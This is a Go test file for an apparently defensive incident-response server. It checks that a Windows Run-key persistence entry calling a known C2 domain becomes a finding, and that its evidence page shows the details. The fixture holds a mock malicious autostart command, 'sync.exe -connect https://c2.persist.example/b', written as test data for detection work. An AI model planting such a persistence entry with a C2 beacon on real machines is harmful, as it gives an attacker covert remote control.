package server

import (
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/cascade-ir/cascade/internal/fleet"
	"github.com/cascade-ir/cascade/internal/snapshot"
	"github.com/cascade-ir/cascade/internal/store"
	"github.com/cascade-ir/cascade/internal/store/sqlite"
)

// TestUIPersistence: three Run values of one key are two observations, the
// one calling an indicator's domain is a finding, and its page says how
// it persists, what it starts and when the key was written.
func TestUIPersistence(t *testing.T) {
	st, err := sqlite.Open(bg, filepath.Join(t.TempDir(), "ui.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	s, err := New(Config{Store: st, Secure: true})
	if err != nil {
		t.Fatal(err)
	}
	written := time.Date(2022, 4, 12, 9, 30, 0, 0, time.UTC)
	run := func(name, cmd, args string) snapshot.Artifact {
		return snapshot.Artifact{Kind: snapshot.ArtifactPersistence, Mechanism: snapshot.MechRunKey, Name: name,
			Source: `registry:HKU\alice\Software\Microsoft\Windows\CurrentVersion\Run`, Command: cmd, Args: args,
			ProgramPath: `C:\Users\alice\` + name + `.exe`, User: "alice", Trigger: "logon", LastSeen: &written, TimeFrom: "key last-write"}
	}
	bad := run("SyncTool", `%APPDATA%\SyncTool\sync.exe`, "-connect https://c2.persist.example/b")
	bad.URL, bad.Domain = "https://c2.persist.example/b", "c2.persist.example"
	h, _ := st.EnsureHost(bg, snapshot.Host{ID: "ws-1", Name: "ws-1", OS: "windows"}, nil, day(0))
	upload(t, s, h, hostSnap("ws-1", day(0), nil, []snapshot.Artifact{run("OneDrive", `C:\od.exe`, ""), run("Teams", `C:\teams.exe`, "--boot"), bad}))
	obs, err := st.Observations(bg, store.ObsQuery{HostID: h.ID, Kind: fleet.ObsArtifact})
	if err != nil || len(obs) != 3 {
		t.Errorf("%d artifact observations (%v), want the three Run values apart", len(obs), err)
	}
	intel := `{"schema":"cascade.intel/v1","source":{"id":"t","name":"t"},"indicators":[{"id":"c2","type":"domain","value":"c2.persist.example","score":80,"description":"fixture C2"}]}`
	if _, err := s.ImportIntel(bg, "c2.json", "upload", []byte(intel), "admin"); err != nil {
		t.Fatal(err)
	}
	runHunts(t, s)
	fs, _, _ := s.st.ListFindings(bg, store.FindingQuery{})
	if len(fs) != 1 {
		t.Fatalf("%d findings, want the Run value calling the C2", len(fs))
	}
	tc, err := s.CreateToken(bg, fleet.TokenRequest{Name: "a", Role: fleet.TokenAnalyst}, "test")
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewTLSServer(s.Handler())
	t.Cleanup(ts.Close)
	jar, _ := cookiejar.New(nil)
	c := ts.Client()
	c.Jar = jar
	c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	resp, err := c.PostForm(ts.URL+"/login", url.Values{"token": {tc.Secret}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	ev := between(get(t, c, ts.URL+"/findings/"+fs[0].ID), `<table id="evidence">`, `</table>`)
	for _, want := range []string{"persists via run-key SyncTool", `%APPDATA%\SyncTool\sync.exe -connect https://c2.persist.example/b`,
		"2022-04-12 09:30 UTC (key last-write)"} {
		if !strings.Contains(ev, want) {
			t.Errorf("evidence lacks %q:\n%s", want, ev)
		}
	}
}
